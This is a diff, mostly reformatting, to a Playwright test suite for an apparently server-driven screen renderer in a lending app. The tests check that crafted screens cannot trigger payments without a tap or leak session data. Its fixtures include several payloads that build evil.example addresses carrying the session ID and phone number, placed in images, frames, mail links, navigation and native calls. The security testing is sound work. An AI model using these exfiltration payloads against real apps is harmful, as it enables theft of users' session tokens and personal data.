@@ -31,11 +31,19 @@ async function open(page: Page, doc: Record<string, unknown>, text: string | Reg
   // Anything that does reach the outside host is answered here (and recorded above) rather than by the network.
   await page.route(/evil\.example/, (route) => route.fulfill({ status: 204, body: '' }));
   await page.route('**/screens/customer-service.json*', (route) =>
-    route.fulfill({ status: 200, contentType: 'application/json', headers: { 'cache-control': 'no-cache' }, body: JSON.stringify({ schemaVersion: 2, id: 'customer-service', title: 'Customer service', ...doc }) }),
+    route.fulfill({
+      status: 200,
+      contentType: 'application/json',
+      headers: { 'cache-control': 'no-cache' },
+      body: JSON.stringify({ schemaVersion: 2, id: 'customer-service', title: 'Customer service', ...doc }),
+    }),
   );
   await page.addInitScript(() => {
     const calls: unknown[] = [];
-    Object.assign(window, { hatidNativeCalls: calls, android: new Proxy({}, { get: (_t, name) => (args: unknown) => void calls.push([name, args]) }) });
+    Object.assign(window, {
+      hatidNativeCalls: calls,
+      android: new Proxy({}, { get: (_t, name) => (args: unknown) => void calls.push([name, args]) }),
+    });
   });
   await page.goto(page0);
   await expect(page.getByText(text).first()).toBeVisible();
@@ -61,9 +69,17 @@ function expectClean(urls: readonly string[]) {
 }
 
 const leak = "='https://evil.example/c.gif?sid=' + session.sessionId + '&ph=' + session.mobilePhone";
-const commit = { do: 'call', endpoint: 'repayment.commit', with: { orderId: '5000170', cardId: '1', amount: '1000', userId: '=session.userId', sessionId: '=session.sessionId' } };
+const commit = {
+  do: 'call',
+  endpoint: 'repayment.commit',
+  with: { orderId: '5000170', cardId: '1', amount: '1000', userId: '=session.userId', sessionId: '=session.sessionId' },
+};
 const huichao = { do: 'call', endpoint: 'repayment.huichao', with: { orderId: '5000174', amount: '895900', userId: '=session.userId' } };
-const push = { do: 'call', endpoint: 'loanConfirm.push', with: { productId: '7', amount: 500000, periods: 7, termUnit: 'day', mobilePhone: '=session.mobilePhone' } };
+const push = {
+  do: 'call',
+  endpoint: 'loanConfirm.push',
+  with: { productId: '7', amount: 500000, periods: 7, termUnit: 'day', mobilePhone: '=session.mobilePhone' },
+};
 const after = (path: string, onDone: unknown[]) => ({ do: 'countdown', path, from: 1, onDone });
 
 test('money without a tap: onLoad, countdowns re-running a pushing list, onNativeBack, a tap that waits', async ({ page, request }) => {
@@ -93,7 +109,11 @@ test('money without a tap: onLoad, countdowns re-running a pushing list, onNativ
 
 test('a money endpoint as a load: the page says it cannot be loaded and sends nothing', async ({ page, request }) => {
   const before = await payments(request);
-  const r = await open(page, { load: { pay: { call: huichao.endpoint, with: huichao.with } }, body: [{ type: 'text', text: 'never' }] }, 'This page could not be loaded. Please try again later.');
+  const r = await open(
+    page,
+    { load: { pay: { call: huichao.endpoint, with: huichao.with } }, body: [{ type: 'text', text: 'never' }] },
+    'This page could not be loaded. Please try again later.',
+  );
   await page.getByRole('button', { name: 'Try again' }).click();
   await page.waitForLoadState('networkidle');
   expectClean(r.urls);
@@ -107,16 +127,37 @@ test('addresses built from session values: pictures, a frame, links, mail, navig
       body: [
         { type: 'text', text: 'Hostile addresses' },
         { type: 'image', src: leak, alt: 'Promo', width: 40, height: 40, eager: true },
-        { type: 'image', src: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/svg"/></svg>', alt: 'Svg', eager: true },
+        {
+          type: 'image',
+          src: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/svg"/></svg>',
+          alt: 'Svg',
+          eager: true,
+        },
         { type: 'cell', title: 'Row', icon: leak },
         { type: 'product-offer', logo: leak, name: 'Peso Agad', buttonText: 'Apply' },
         { type: 'carousel', label: 'News', slides: [{ src: 'https://evil.example/slide.png', alt: 'Slide' }], autoplay: false },
         { type: 'step-list', steps: [{ title: 'Apply', icon: 'https://evil.example/step.svg' }] },
         { type: 'image-grid', images: `=[${leak.slice(1)}]`, alt: 'Evidence' },
-        { type: 'site-header', brand: 'Hatid', logo: leak, brandTo: '//evil.example', items: [{ text: 'Out', to: '//evil.example/x' }], current: '/', onNavigate: [{ do: 'navigate', to: '=event.to' }] },
+        {
+          type: 'site-header',
+          brand: 'Hatid',
+          logo: leak,
+          brandTo: '//evil.example',
+          items: [{ text: 'Out', to: '//evil.example/x' }],
+          current: '/',
+          onNavigate: [{ do: 'navigate', to: '=event.to' }],
+        },
         { type: 'web-frame', src: "='https://evil.example/frame?sid=' + session.sessionId", title: 'Agreement' },
-        { type: 'button', text: 'Mail', onTap: [{ do: 'openUrl', url: "='mailto:x@evil.example?body=' + session.sessionId + ' ' + session.mobilePhone" }] },
-        { type: 'button', text: 'Open', onTap: [{ do: 'native', action: 'openPage', args: { url: "='https://evil.example/p?sid=' + session.sessionId" } }] },
+        {
+          type: 'button',
+          text: 'Mail',
+          onTap: [{ do: 'openUrl', url: "='mailto:x@evil.example?body=' + session.sessionId + ' ' + session.mobilePhone" }],
+        },
+        {
+          type: 'button',
+          text: 'Open',
+          onTap: [{ do: 'native', action: 'openPage', args: { url: "='https://evil.example/p?sid=' + session.sessionId" } }],
+        },
         { type: 'button', text: 'Call', onTap: [{ do: 'native', action: 'callPhone', args: { phone: '09175550142', note: '=session.sessionId' } }] },
         { type: 'button', text: 'Go', onTap: [{ do: 'navigate', to: "='//evil.example/?sid=' + session.sessionId" }] },
         { type: 'button', text: 'Leave', onTap: [{ do: 'openUrl', url: leak }] },
@@ -135,7 +176,16 @@ test('addresses built from session values: pictures, a frame, links, mail, navig
 });
 
 test('a tap still pays: the borrower taps Pay and repayment.huichao reaches the lender once', async ({ page }) => {
-  const r = await open(page, { body: [{ type: 'text', text: 'Ready to pay' }, { type: 'button', text: 'Pay', onTap: [huichao] }] }, 'Ready to pay');
+  const r = await open(
+    page,
+    {
+      body: [
+        { type: 'text', text: 'Ready to pay' },
+        { type: 'button', text: 'Pay', onTap: [huichao] },
+      ],
+    },
+    'Ready to pay',
+  );
   await page.getByRole('button', { name: 'Pay' }).click();
   await expect.poll(() => r.urls.filter((u) => u.includes('repayment-huichao')).length).toBe(1);
 });
